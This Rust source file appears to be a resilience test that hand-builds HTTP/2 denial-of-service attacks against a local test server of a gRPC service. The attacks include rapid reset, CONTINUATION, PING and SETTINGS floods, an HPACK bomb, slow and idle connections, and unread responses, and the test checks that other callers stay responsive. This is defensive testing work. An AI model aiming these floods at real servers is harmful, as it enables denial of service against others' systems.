//! Hand-made HTTP/2 that costs its sender little: resets, floods of frames, headers that expand, idle connections
//! and connections that do not read. Other calls must hardly be slower. Shown to fail by `large-headers`.

use std::time::Duration;

use anyhow::Result;
use leadsmith_proto as proto;
use prost::Message as _;
use rustix::process::{Resource, getrlimit, setrlimit};

use crate::harness::context::Context;
use crate::harness::report::Findings;
use crate::harness::strain::{Bystander, check_alive};
use crate::harness::wire::{self, Wire, frame, header};

const GET: &str = "leadsmith.v1.LeadService/Get";
const LIST: &str = "leadsmith.v1.LeadService/List";
const SIGN_IN: &str = "leadsmith.v1.AuthService/SignIn";
/// Leads for responses that are not read.
const LEADS: usize = 200;

/// The target of an attack, and its size.
#[derive(Clone)]
struct Target {
    address: String,
    token: String,
    /// How many frames a flood has. They are sent in bursts of a hundred.
    frames: u32,
    connections: usize,
}

type Attack = fn(&Target) -> Result<String>;

const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset", rapid_reset),
    ("CONTINUATION flood", continuation_flood),
    ("HPACK bomb", hpack_bomb),
    ("empty DATA flood", empty_data),
    ("SETTINGS flood", settings_flood),
    ("PING flood", ping_flood),
    ("slow preface", slow_preface),
    ("idle connections", idle_connections),
    ("incomplete messages", incomplete_messages),
    ("unread responses", unread_responses),
];

pub async fn run(context: &Context<'_>) -> Result<Findings> {
    let mut findings = Findings::default();
    // Raises the limit of open files. The server inherits it.
    let mut files = getrlimit(Resource::Nofile);
    files.current = files.maximum;
    let _ = setrlimit(Resource::Nofile, files);
    let fixture = context.fixture()?;
    let server = context.serve(&fixture, &[]).await?;
    let caller = fixture.caller(&server).await?;
    for number in 0..LEADS {
        caller
            .create(&format!("{number} {}", "x".repeat(180)), "")
            .await?;
    }
    let target = Target {
        address: server.address.clone(),
        token: fixture.key(0),
        frames: context.size(20_000, 1_000_000),
        connections: context.size(500, 10_000),
    };
    let bystander = Bystander::new(&server, caller.clone()).await?;
    for (name, attack) in ATTACKS {
        let target = target.clone();
        let attack = wire::on_own_thread(move || attack(&target));
        let end = bystander.during(name, None, &mut findings, attack).await?;
        findings.fact("", end);
        check_alive(&server, &caller, &mut findings).await?;
    }
    findings.finish()
}

/// Sends bursts with short pauses, like an attacker that stays below the rate limit of a firewall. Reports how
/// much was sent until the server closed the connection.
fn flood(wire: &mut Wire, target: &Target, mut burst: impl FnMut(u32) -> Vec<u8>) -> String {
    for sent in (0..target.frames).step_by(100) {
        let bytes: Vec<u8> = (sent..sent + 100).flat_map(&mut burst).collect();
        if !wire.send(&bytes) || wire.read_until_closed(Duration::from_millis(1)) {
            return format!("rejected after {sent} frames");
        }
    }
    format!("{} frames accepted", target.frames)
}

/// Calls that are reset immediately (CVE-2023-44487).
fn rapid_reset(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let headers = wire::call(GET, &target.token);
    Ok(flood(&mut wire, target, |number| {
        let stream = 2 * number + 1;
        let begin = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
        let reset = frame(wire::RESET, 0, stream, &8_u32.to_be_bytes());
        [begin, reset].concat()
    }))
}

/// Headers that never end (CVE-2024-27316).
fn continuation_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    wire.send(&frame(wire::HEADERS, 0, 1, &wire::call(GET, &target.token)));
    let more = header("x-more", &"y".repeat(8_000));
    let more = frame(wire::CONTINUATION, 0, 1, &more);
    Ok(flood(&mut wire, target, |_| more.clone()))
}

/// A header of 4,000 bytes that each further byte repeats: 16,000 times per frame, on many streams.
fn hpack_bomb(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    // With incremental indexing: the receiver stores the header as index 62.
    let mut kept = header("x-bomb", &"y".repeat(4_000));
    kept[0] = 0x40;
    let first = [wire::call(GET, &target.token), kept].concat();
    let mut sent = 0;
    for stream in (1..60).step_by(2) {
        let block = if stream == 1 {
            first.clone()
        } else {
            wire::call(GET, &target.token)
        };
        let repeats = vec![0x80 | 62; 16_000];
        let bytes = [
            frame(wire::HEADERS, 0, stream, &block),
            frame(wire::CONTINUATION, wire::END_HEADERS, stream, &repeats),
        ];
        if !wire.send(&bytes.concat()) || wire.read_until_closed(Duration::from_millis(20)) {
            return Ok(format!("rejected after {sent} calls"));
        }
        sent += 1;
    }
    Ok(format!("{sent} calls accepted"))
}

/// A body of very many empty frames (CVE-2019-9518).
fn empty_data(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let headers = wire::call(GET, &target.token);
    wire.send(&frame(wire::HEADERS, wire::END_HEADERS, 1, &headers));
    let empty = frame(wire::DATA, 0, 1, &[]);
    Ok(flood(&mut wire, target, |_| empty.clone()))
}

/// SETTINGS frames, each of which must be acknowledged (CVE-2019-9515).
fn settings_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let settings = frame(wire::SETTINGS, 0, 0, &[]);
    Ok(flood(&mut wire, target, |_| settings.clone()))
}

/// PING frames, each of which must be acknowledged (CVE-2019-9512).
fn ping_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let ping = frame(wire::PING, 0, 0, &[0; 8]);
    Ok(flood(&mut wire, target, |_| ping.clone()))
}

/// Connections that send the preface slowly.
fn slow_preface(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    for _ in 0..target.connections.min(200) {
        wires.push(Wire::connect(&target.address)?);
    }
    for wire in &mut wires {
        wire.send_preface_slowly(Duration::from_micros(500));
    }
    Ok(format!("{} connections", wires.len()))
}

/// Connections that send only the preface and settings.
fn idle_connections(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    for number in 0..target.connections {
        wires.push(Wire::open(&target.address, &[])?);
        if number % 10 == 0 {
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let closed = wires
        .iter_mut()
        .filter_map(|wire| {
            wire.read_until_closed(Duration::from_micros(100))
                .then_some(())
        })
        .count();
    Ok(format!("{} connections, {closed} rejected", wires.len()))
}

/// Unauthenticated sign-ins whose messages never complete: as many calls as may be in flight.
fn incomplete_messages(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    let headers = wire::call(SIGN_IN, "");
    let half = b"\0\0\0\0\x64half of a message";
    for _ in 0..5 {
        let mut wire = Wire::open(&target.address, &[])?;
        for stream in (1..400).step_by(2) {
            let call = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
            let data = frame(wire::DATA, 0, stream, half);
            wire.send(&[call, data].concat());
        }
        wires.push(wire);
    }
    std::thread::sleep(Duration::from_secs(2));
    Ok(format!("{} sign-ins", wires.len() * 200))
}

/// Long responses that the client does not read: with a window of 0 the server cannot send them.
fn unread_responses(target: &Target) -> Result<String> {
    // SETTINGS_INITIAL_WINDOW_SIZE
    let mut wires = Vec::new();
    let headers = wire::call(LIST, &target.token);
    let list = proto::ListLeadsRequest {
        page_size: 1_000,
        ..Default::default()
    };
    let body = wire::message(&list.encode_to_vec());
    let mut requested = 0;
    for _ in 0..4 {
        let mut wire = Wire::open(&target.address, &[(4, 0)])?;
        for stream in (1..100).step_by(2) {
            let call = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
            let data = frame(wire::DATA, wire::END_STREAM, stream, &body);
            if !wire.send(&[call, data].concat()) {
                break;
            }
            requested += 1;
            std::thread::sleep(Duration::from_millis(10));
        }
        wires.push(wire);
    }
    std::thread::sleep(Duration::from_secs(1));
    Ok(format!("{requested} responses not read"))
}
